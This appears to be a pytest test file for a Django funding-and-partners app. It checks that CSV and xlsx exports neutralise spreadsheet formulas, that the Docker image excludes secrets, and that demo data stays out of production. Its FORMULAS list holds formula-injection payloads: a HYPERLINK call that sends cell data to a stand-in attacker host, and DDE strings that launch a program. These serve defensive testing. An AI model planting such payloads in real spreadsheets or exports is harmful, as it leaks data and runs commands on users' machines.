"""Spreadsheets and images: text that a spreadsheet would run is neutralised in every CSV
and xlsx download; the Docker image holds no secret; the demo stays out of production."""

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice
from openpyxl import load_workbook

from core.spreadsheets import safe_text
from funding import services as funding_services
from partners import services
from partners.models import User

ROOT = Path(__file__).resolve().parent.parent.parent
FORMULAS = [
    '=HYPERLINK("http://attaquant.example/?d="&A1,"Voir le détail")',
    "+33 6 11 22 33 44",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text
    assert safe_text("Subvention « Fondation » 2026 🏠") == "Subvention « Fondation » 2026 🏠"
    assert safe_text(Decimal("-400.00")) == Decimal("-400.00")


def test_ledger_and_figures_exports_neutralise_formulas_and_keep_numbers(client, demo):
    coordinator = demo["coordinator.lt"]
    partner = services.partner_create(
        name="@Habitat des Alpes", short_name="habitat-alpes", kind="landlord", by=coordinator
    )
    for index, label in enumerate(FORMULAS):
        funding_services.entry_add(
            by=coordinator,
            kind="grant",
            on=date(2016, 3, 1 + index),
            amount=Decimal("-9999999.99") if index == 0 else Decimal("1500.50"),
            label=label,
            partner=partner,
        )
    client.force_login(coordinator)
    for name in ("ledger_export", "figures_export"):
        xlsx = client.get(reverse(f"funding:{name}", args=[2016, "xlsx"]))
        sheet = load_workbook(io.BytesIO(xlsx.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells), name
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t"))]
        assert "'@Habitat des Alpes" in texts
        text = client.get(reverse(f"funding:{name}", args=[2016, "csv"])).content.decode()
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
        values = [value for row in rows for value in row]
        assert "'@Habitat des Alpes" in values
        assert not [v for v in values if v.startswith(("=", "+", "@", "\t"))], name
    ledger = client.get(reverse("funding:ledger_export", args=[2016, "xlsx"]))
    ledger_rows = list(load_workbook(io.BytesIO(ledger.content)).active.iter_rows(values_only=True))
    labels = {row[4]: row[5] for row in ledger_rows[1:]}
    for label in FORMULAS:
        assert "'" + label in labels
    assert labels["'" + FORMULAS[0]] == -9999999.99
    ledger_csv = client.get(reverse("funding:ledger_export", args=[2016, "csv"])).content.decode()
    assert ";-9999999,99;" in ledger_csv


def test_the_docker_image_leaves_out_secrets_data_and_history():
    ignored = {
        line.strip()
        for line in (ROOT / ".dockerignore").read_text().splitlines()
        if line.strip() and not line.startswith("#")
    }
    assert {".env", ".env.*", "var/", ".git/", ".venv/", "**/*.sqlite3"} <= ignored
    assert "COPY . ." in (ROOT / "Dockerfile").read_text()


def test_the_demo_refuses_production_unless_forced_and_never_with_the_published_password(
    demo, settings
):
    settings.PRODUCTION = True
    with pytest.raises(CommandError, match="--force-production"):
        call_command("load_demo", stdout=io.StringIO())
    with pytest.raises(CommandError, match="publié est refusé"):
        call_command("load_demo", "--force-production", stdout=io.StringIO())
    settings.DEMO_PASSWORD = "court"
    with pytest.raises(CommandError, match="trop court"):
        call_command("load_demo", "--force-production", stdout=io.StringIO())
    settings.DEMO_PASSWORD = "Une démonstration privée de 2026"
    coordinator = User.objects.get(username="coordinator.lt")
    TOTPDevice.objects.filter(user=coordinator).delete()
    output = io.StringIO()
    call_command("load_demo", "--force-production", stdout=output)
    assert output.getvalue().startswith("Démo :")
    # No published second factor in production: the coordinators enrol their own app.
    assert not TOTPDevice.objects.filter(user=coordinator).exists()
